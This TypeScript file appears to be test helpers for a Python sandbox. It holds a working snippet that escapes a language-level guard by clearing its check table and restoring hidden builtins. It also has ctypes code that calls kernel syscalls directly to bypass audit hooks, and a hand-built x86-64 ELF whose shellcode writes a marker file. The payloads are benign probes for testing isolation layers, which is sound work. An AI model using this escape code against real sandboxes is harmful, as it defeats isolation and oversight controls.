/**
 * Leaves the language layer as a real attacker would, where there is one: the import function of a
 * block is a method of the guard, whose module holds the table of checks and the real builtins. Says
 * that it got there, for the report of what the language layer let through.
 */
const CLIMB = `
def _climb():
    table = __builtins__ if type(__builtins__) is dict else vars(__builtins__)
    guard = getattr(table["__import__"], "__self__", None)
    if hasattr(guard, "_audit"):
        own = type(guard)._audit.__globals__
        own["_CHECKS"].clear()
        table.update(own["PRIVATE_BUILTINS"])
    print("@reached")
_climb()
`;

/** Calls of the kernel by name, past Python and its audit events. */
const LIBC = `
import ctypes, errno, os, struct, time
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {"read": 0, "open": 2, "socket": 41, "fork": 57, "vfork": 58, "execve": 59, "clone": 56,
        "kill": 62, "ptrace": 101, "openat": 257, "mknodat": 259, "unshare": 272, "setns": 308,
        "process_vm_readv": 310, "process_vm_writev": 311, "memfd_create": 319, "execveat": 322,
        "userfaultfd": 323, "pidfd_send_signal": 424, "io_uring_setup": 425, "io_uring_enter": 426,
        "pidfd_open": 434, "clone3": 435, "openat2": 437, "pidfd_getfd": 438, "open_by_handle_at": 304,
        "name_to_handle_at": 303, "prlimit64": 302, "tgkill": 234, "keyctl": 250, "add_key": 248,
        "bpf": 321, "perf_event_open": 298, "mount": 165, "utimensat": 280, "fchmodat": 268,
        "rt_sigqueueinfo": 129, "ioprio_set": 251, "sched_setaffinity": 203, "shmget": 29, "mq_open": 240},
    "aarch64": {"read": 63, "openat": 56, "socket": 198, "execve": 221, "clone": 220, "kill": 129,
        "ptrace": 117, "mknodat": 33, "unshare": 97, "setns": 268, "process_vm_readv": 270,
        "process_vm_writev": 271, "memfd_create": 279, "execveat": 281, "userfaultfd": 282,
        "pidfd_send_signal": 424, "io_uring_setup": 425, "io_uring_enter": 426, "pidfd_open": 434,
        "clone3": 435, "openat2": 437, "pidfd_getfd": 438, "open_by_handle_at": 265,
        "name_to_handle_at": 264, "prlimit64": 261, "tgkill": 131, "keyctl": 219, "add_key": 217,
        "bpf": 280, "perf_event_open": 241, "mount": 40, "utimensat": 88, "fchmodat": 53,
        "rt_sigqueueinfo": 138, "ioprio_set": 30, "sched_setaffinity": 122, "shmget": 194, "mq_open": 180},
}[os.uname().machine]
def syscall(name, *arguments):
    taken = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(ctypes.c_long(NUMBERS[name]), *taken)
`;

/**
 * `own_program(path)` makes a program of one's own, which needs nothing but a kernel: it writes its
 * path into the file of that path. For x86-64; elsewhere it is a script.
 */
export const OWN_PROGRAM = `
def own_program(path):
    if os.uname().machine != "x86_64":
        return b"#!/bin/sh\\necho changed > " + path.encode() + b"\\n"
    # open(path, O_WRONLY), write(fd, path, 7), exit(0)
    head = "b802000000488d3d25000000be010000000f0589c7b801000000488d3510000000ba070000000f05b83c00000031ff0f05"
    code = bytes.fromhex(head) + path.encode() + b"\\0"
    size = 120 + len(code)
    elf = struct.pack("<4sBBBB8xHHIQQQIHHHHHH", b"\\x7fELF", 2, 1, 1, 0, 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return elf + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, size, size, 4096) + code
`;

/** The code behind a way out of the language layer, so that only the kernel is left to hold it. */
export function climbed(code: string): string {
  return `${CLIMB}${code}`;
}

/** As {@link climbed}, with `libc`, `syscall(name, …)` and the modules `ctypes`, `os`, `struct`, `time`. */
export function native(code: string): string {
  return `${CLIMB}${LIBC}${code}`;
}
